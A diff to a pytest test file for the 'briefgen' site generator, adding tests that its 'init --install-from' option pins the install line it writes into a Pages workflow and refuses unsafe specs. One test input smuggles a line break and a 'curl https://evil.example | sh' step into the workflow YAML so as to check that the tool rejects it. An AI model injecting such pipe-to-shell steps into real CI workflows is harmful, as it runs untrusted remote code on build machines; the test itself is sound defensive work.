@@ -8,10 +8,11 @@ from pathlib import Path
 
 import pytest
 
+from briefgen import __version__
 from briefgen.build import build_site
 from briefgen.cli import main
 from briefgen.load import load_archive
-from briefgen.scaffold import EXAMPLE_BRIEFING, PAGES_WORKFLOW, STARTER_FILES, starter_text
+from briefgen.scaffold import EXAMPLE_BRIEFING, INSTALL_PLACEHOLDER, PAGES_WORKFLOW, STARTER_FILES, starter_text
 from tests.sitetools import snapshot
 
 SOURCES = """\
@@ -179,7 +180,12 @@ def test_init_writes_a_site_that_checks_and_builds(tmp_path: Path, capsys: pytes
     for path in STARTER_FILES:
         assert path in out
     assert "site/" in (folder / ".gitignore").read_text(encoding="utf-8").splitlines()
-    assert (folder / PAGES_WORKFLOW).read_text(encoding="utf-8") == starter_text("pages.yml")
+    pinned = f"run: pip install briefgen=={__version__}"
+    assert (folder / PAGES_WORKFLOW).read_text(encoding="utf-8") == starter_text("pages.yml").replace(
+        INSTALL_PLACEHOLDER, pinned
+    )
+    assert f"{PAGES_WORKFLOW} installs briefgen from the package index, pinned to the version that wrote it:" in out
+    assert f"\n  pip install briefgen=={__version__}\n" in out
     assert run(capsys, "check", "--strict", "--root", str(folder))[0] == 0
     report = build_site(folder)
     assert (report.output / "index.html").is_file()
@@ -230,6 +236,45 @@ def test_init_refuses_a_file_for_a_folder(tmp_path: Path, capsys: pytest.Capture
     assert "is not a folder" in err
 
 
+def test_init_install_from_a_wheel_in_the_repository(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    wheel = f"vendor/briefgen-{__version__}-py3-none-any.whl"
+    code, out, err = run(capsys, "init", str(tmp_path), "--install-from", wheel)
+    assert (code, err) == (0, "")
+    assert f"        run: pip install {wheel}\n" in (tmp_path / PAGES_WORKFLOW).read_text(encoding="utf-8")
+    assert f"from a file in the archive's repository, which must be committed with it ({tmp_path / wheel}" in out
+    assert f"\n  pip install {wheel}\n" in out
+
+
+def test_init_quotes_an_install_from_for_the_shell(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    spec = "briefgen @ https://files.example.org/briefgen-0.2.0-py3-none-any.whl"
+    code, out, _ = run(capsys, "init", str(tmp_path), "--install-from", spec)
+    assert code == 0
+    assert f"        run: pip install '{spec}'\n" in (tmp_path / PAGES_WORKFLOW).read_text(encoding="utf-8")
+    assert f"\n  pip install '{spec}'\n" in out
+
+
+@pytest.mark.parametrize(
+    ("spec", "message"),
+    [
+        ("briefgen", f"'briefgen' is not one version: write briefgen=={__version__}"),
+        ("briefgen==0.1\n      - run: curl https://evil.example | sh", "line break"),
+        ("git+https://github.com/org/briefgen", "names no tag or commit"),
+        ("/home/me/briefgen-0.1.0-py3-none-any.whl", "outside the archive's repository"),
+    ],
+)
+def test_init_refuses_an_install_from_it_cannot_pin_and_writes_nothing(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], spec: str, message: str
+) -> None:
+    with pytest.raises(SystemExit) as exit_info:
+        main(["init", str(tmp_path / "archive"), "--install-from", spec])
+    assert exit_info.value.code == 2
+    err = capsys.readouterr().err
+    assert "argument --install-from:" in err
+    assert message in err
+    assert "Traceback" not in err
+    assert not (tmp_path / "archive").exists()
+
+
 def test_init_then_new_with_the_example_source(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert run(capsys, "init", str(tmp_path))[0] == 0
     assert new(capsys, tmp_path, "--source", "example-desk", "--title", "First report", "--date", "2025-06-27")[0] == 0
@@ -253,7 +298,11 @@ def test_help_names_every_command(capsys: pytest.CaptureFixture[str]) -> None:
 
 @pytest.mark.parametrize(
     ("command", "options"),
-    [("new", ["--source", "--title", "--date", "--root"]), ("serve", ["--port", "--root"]), ("init", ["DIR"])],
+    [
+        ("new", ["--source", "--title", "--date", "--root"]),
+        ("serve", ["--port", "--root"]),
+        ("init", ["DIR", "--install-from"]),
+    ],
 )
 def test_each_new_command_explains_its_options(
     capsys: pytest.CaptureFixture[str], command: str, options: list[str]
